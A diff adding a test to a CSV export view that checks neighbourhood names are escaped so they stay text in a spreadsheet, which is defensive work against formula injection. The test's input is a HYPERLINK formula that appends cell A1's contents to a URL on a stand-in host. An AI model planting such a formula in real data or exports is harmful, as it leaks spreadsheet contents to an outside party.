@@ -188,3 +188,17 @@ def test_without_a_snapshot_the_page_says_so(coordinator):
     assert response.status_code == 200
     assert "No figures yet" in response.content.decode()
     assert get(coordinator, "regie:export-csv").status_code == 404
+
+
+def test_a_neighbourhood_name_is_never_a_formula_in_the_csv(coordinator, town):
+    """Names come from imported boundary files: '=HYPERLINK(...)' stays text in a spreadsheet."""
+    a, _b = town
+    a.name = '=HYPERLINK("http://example.org/?"&A1,"Binnenstad")'
+    a.save(update_fields=["name"])
+    snapshot_take(today=datetime.date(2026, 12, 1))
+    rows = {
+        r["code"]: r
+        for r in csv.DictReader(io.StringIO(get(coordinator, "regie:export-csv").content.decode()))
+    }
+    assert rows["A"]["name"] == "'" + a.name
+    assert rows["B"]["name"] == "Oost"
